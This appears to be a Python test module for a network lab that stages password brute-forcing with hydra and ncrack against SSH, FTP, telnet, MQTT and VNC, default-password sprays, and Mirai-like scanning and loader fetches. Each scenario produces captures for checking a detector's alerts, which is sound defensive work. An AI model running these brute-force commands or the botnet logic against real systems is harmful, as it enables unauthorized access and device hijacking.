"""Password guessing, sprays of default passwords, and what a Mirai-like bot makes of them."""

import subprocess
import time

from . import mirai, services
from .attacks_scan import sparse_internet
from .behaviour import Alert, Claim, behaviour
from .lab import ATTACKER, NEIGHBOURS, SERVER, build, play
from .story import WORDS, in_device, longer

INNOCENT = (*NEIGHBOURS, SERVER)
LOADER = "198.51.100.66"


def word_list(net, words=WORDS):
    path = net.state / "words"
    path.write_text("\n".join(words) + "\n")
    return path


def connections(port, least, most=None, by=ATTACKER):
    return Claim(f"connections to port {port} of the server", f"ip.src=={by} && ip.dst=={SERVER} && tcp.dstport=={port} && tcp.flags==0x2",
                 least, most)


def guesses(name, service, port, start, command, tools, least, words=WORDS, seconds=150, user="admin"):
    """Registers one folder in which `command` guesses passwords of one service of the server."""

    @behaviour(name, "attack", f"{tools[0]} guesses the {service} password of one account on one server.",
               expected=(Alert("brute-force", ATTACKER, (SERVER,)),), never=INNOCENT, tools=tools, claims=(connections(port, least),))
    def guess(net, capture):
        build(net, {"admin": words[-1]})
        start(net)
        play(net, capture, lambda: net.attack("attacker", *command(word_list(net, words), user), timeout=seconds))


guesses("brute-force-ssh", "SSH", 22, lambda net: services.ssh(net, "server"),
        lambda words, user: ("hydra", "-I", "-t", "4", "-l", user, "-P", words, f"ssh://{SERVER}"), ("hydra", "openssh-server"), 30,
        words=longer(WORDS, 6), seconds=240)
guesses("brute-force-ssh-slow", "SSH", 22, lambda net: services.ssh(net, "server", tries=2),
        lambda words, user: ("hydra", "-I", "-t", "1", "-c", "8", "-l", user, "-P", words, f"ssh://{SERVER}"), ("hydra", "openssh-server"),
        18, words=longer(WORDS, 2), seconds=600)
guesses("brute-force-ftp", "FTP", 21, lambda net: services.ftp(net, "server"),
        lambda words, user: ("hydra", "-I", "-t", "4", "-l", user, "-P", words, f"ftp://{SERVER}"), ("hydra", "vsftpd"), 25,
        words=longer(WORDS, 3), seconds=240)
guesses("brute-force-telnet", "telnet", 23, lambda net: services.telnet(net, "server"),
        lambda words, user: ("ncrack", "--user", user, "-P", words, f"telnet://{SERVER}"), ("ncrack", "inetutils-telnetd"), 25,
        words=longer(WORDS, 3), seconds=240)
guesses("brute-force-mqtt", "MQTT", 1883, lambda net: services.mqtt_broker(net, "server", {"admin": "admin"}),
        lambda words, user: ("ncrack", "--user", user, "-P", words, "-g", "cd=500ms", f"mqtt://{SERVER}"), ("ncrack", "mosquitto"), 50,
        words=longer(WORDS, 2))


def vnc_server(net):
    secret = net.state / "vnc"
    secret.write_bytes(vnc_password("admin"))
    net.start("server", "Xtigervnc", ":0", "-rfbport", "5900", "-PasswordFile", secret, "-geometry", "640x480", "-depth", "16",
              "-SecurityTypes", "VncAuth", "-localhost", "0", "-BlacklistThreshold", "1000", log="vnc")
    services.wait_for_port(net, "server", 5900)


def vnc_password(password):
    return subprocess.run(["tigervncpasswd", "-f"], input=password.encode() + b"\n", capture_output=True, check=True).stdout


guesses("brute-force-vnc", "VNC", 5900, vnc_server,
        lambda words, user: ("hydra", "-I", "-t", "2", "-P", words, f"vnc://{SERVER}"), ("hydra", "tigervnc-standalone-server"), 25,
        words=WORDS)


FARM = range(100, 124)


def farm(net, password="admin"):
    """Four devices with six addresses each, all with telnet, as identical cameras have."""
    for group in range(4):
        hosts = list(FARM)[group * 6 : group * 6 + 6]
        net.device(f"cameras-{group}", hosts[0], f"44:19:b6:60:00:{group:02x}", users={"admin": password}, more_addresses=hosts[1:])
        services.telnet(net, f"cameras-{group}")
        services.ssh(net, f"cameras-{group}")


@behaviour("credential-spray-telnet", "attack", "Two default passwords tried by telnet on twenty-four devices.",
           expected=(Alert("credential-spray", ATTACKER),), never=INNOCENT, tools=("ncrack", "inetutils-telnetd"),
           claims=(Claim("devices tried", f"ip.src=={ATTACKER} && tcp.dstport==23 && tcp.flags==0x2", 24, 24, "ip.dst"),))
def credential_spray_telnet(net, capture):
    build(net)
    farm(net)
    words = word_list(net, ("12345", "admin"))
    targets = [f"telnet://192.168.50.{host}" for host in FARM]
    play(net, capture, lambda: net.attack("attacker", "ncrack", "--user", "admin", "-P", words, *targets, timeout=240))


@behaviour("credential-spray-ssh", "attack", "Two passwords tried by ssh on twenty-four devices, one after the other.",
           expected=(Alert("credential-spray", ATTACKER),), never=INNOCENT, tools=("hydra", "openssh-server"),
           claims=(Claim("devices tried", f"ip.src=={ATTACKER} && tcp.dstport==22 && tcp.flags==0x2", 24, 24, "ip.dst"),))
def credential_spray_ssh(net, capture):
    build(net)
    farm(net, "correct horse")
    hosts = net.state / "hosts"
    hosts.write_text("".join(f"192.168.50.{host}\n" for host in FARM))
    play(net, capture, lambda: net.attack("attacker", "hydra", "-I", "-t", "1", "-T", "4", "-l", "admin", "-P",
                                          word_list(net, ("admin", "12345")), "-M", hosts, "ssh", timeout=240))


def bot(net, name, address, targets, per_second, seed, deadline, infected, limit=3):
    """Scans, tries the default passwords where telnet answers, has the loader's file fetched; a taken device does the same."""
    stop = lambda: time.monotonic() > deadline
    found = mirai.scan(address, targets, per_second, seed, stop=stop)
    for target, port in found:
        if target == address or target in infected or len(infected) >= limit or stop():
            continue
        infected.add(target)  # nobody else needs to try
        session = mirai.try_logins(target, port)
        if session:
            mirai.load(session, LOADER)


@behaviour("mirai-propagation", "attack", "A camera that a Mirai-like bot has taken (192.168.50.22) sends SYNs to ports 23 and 2323 of the home "
           "and of 203.0.113.0/24, twenty a second, logs in to the devices that answer with default passwords, and has each fetch "
           "a file from 198.51.100.66. The first of them, 192.168.50.23, then scans too.",
           expected=(Alert("botnet-propagation", "192.168.50.22"), Alert("network-scan", "192.168.50.22"),
                     Alert("network-scan", "192.168.50.23")),
           never=NEIGHBOURS, tools=("inetutils-telnetd", "busybox", "nginx-light"),
           claims=(Claim("addresses tried by the first bot", "ip.src==192.168.50.22 && tcp.flags==0x2 && (tcp.dstport==23 || tcp.dstport==2323)",
                         250, None, "ip.dst"),
                   Claim("devices that fetch the loader's file", "ip.dst==198.51.100.66 && http.request", 3, 3, "ip.src"),
                   Claim("addresses tried by the second bot",
                         "ip.src==192.168.50.23 && tcp.flags==0x2 && (tcp.dstport==23 || tcp.dstport==2323)", 100, None, "ip.dst")))
def mirai_propagation(net, capture):
    build(net)
    for host in (22, 23, 24, 25):
        net.device(f"camera-{host}", host, f"44:19:b6:51:01:{host:02x}", users={"admin": "admin"})
        services.telnet(net, f"camera-{host}")
    (net.state / "www-internet" / "bins").mkdir()
    (net.state / "www-internet" / "bins" / "bot.arm7").write_bytes(b"lapwing corpus: not a program\n" * 2000)
    sparse_internet(net, (1, 20, 33, 40, 77), refusing=(50, 51, 52, 53, 54))

    def work():
        infected = set()
        home = [f"192.168.50.{host}" for host in range(2, 60) if host != 22]
        outside = [f"203.0.113.{host}" for host in range(1, 255)]
        mixed = sorted(home + outside, key=lambda one: (int(one.split(".")[3]) * 37) % 251)
        deadline = time.monotonic() + 200
        net.show("camera-22", f"(Mirai-like scan of {len(mixed)} addresses, 20 a second, logins, loader: recording/mirai.py)")
        in_device(net, "camera-22", lambda: bot(net, "camera-22", "192.168.50.22", mixed, 20, 1, deadline, infected))
        net.show("camera-23", "(the same, as soon as it is taken)")
        rest = [f"203.0.113.{host}" for host in range(100, 255)]
        in_device(net, "camera-23", lambda: mirai.scan("192.168.50.23", rest, 20, 2))

    play(net, capture, work)


@behaviour("mirai-inbound", "attack", "A bot on the internet (203.0.113.200) finds telnet on a camera whose port the router forwards, tries "
           "default passwords, and the loader's file is fetched. The camera then looks for others outside, fifty SYNs a second.",
           expected=(Alert("network-scan", "192.168.50.22"), Alert("botnet-propagation", "192.168.50.22")),
           tolerated=(Alert("brute-force", "203.0.113.200", ("192.168.50.22",)),),
           never=NEIGHBOURS, tools=("inetutils-telnetd", "busybox", "nginx-light"),
           claims=(Claim("telnet connections from outside", "ip.src==203.0.113.200 && tcp.dstport==23 && tcp.flags==0x2", 8),
                   Claim("the loader's file is fetched", "ip.src==192.168.50.22 && ip.dst==198.51.100.66 && http.request", 1, 1),
                   Claim("addresses the camera tries", "ip.src==192.168.50.22 && tcp.flags==0x2 && (tcp.dstport==23 || tcp.dstport==2323)",
                         450, None, "ip.dst")))
def mirai_inbound(net, capture):
    build(net)
    net.device("camera-22", 22, "44:19:b6:51:01:16", users={"admin": "admin"})
    services.telnet(net, "camera-22")
    (net.state / "www-internet" / "bins").mkdir()
    (net.state / "www-internet" / "bins" / "bot.arm7").write_bytes(b"lapwing corpus: not a program\n" * 2000)
    net.run("internet", "ip", "address", "add", "203.0.113.200/32", "dev", "lo")
    net.run("internet", "ip", "route", "replace", "192.168.50.0/24", "via", "100.64.0.2", "src", "203.0.113.200")

    def work():
        def break_in():
            session = mirai.try_logins("192.168.50.22", 23)
            if session is None or not mirai.load(session, LOADER):
                raise RuntimeError("the camera did not let the bot in")

        net.show("internet", "(default passwords from 203.0.113.200 by telnet, then the loader: recording/mirai.py)")
        in_device(net, "internet", break_in)
        sparse_internet(net, (1, 20, 33))
        sparse_internet(net, (9, 11), prefix="192.0.2")
        targets = [f"{prefix}.{host}" for host in range(1, 255) for prefix in ("203.0.113", "192.0.2")]
        net.show("camera-22", f"(Mirai-like scan of {len(targets)} addresses, 50 a second)")
        in_device(net, "camera-22", lambda: mirai.scan("192.168.50.22", targets, 50, 3))

    play(net, capture, work)
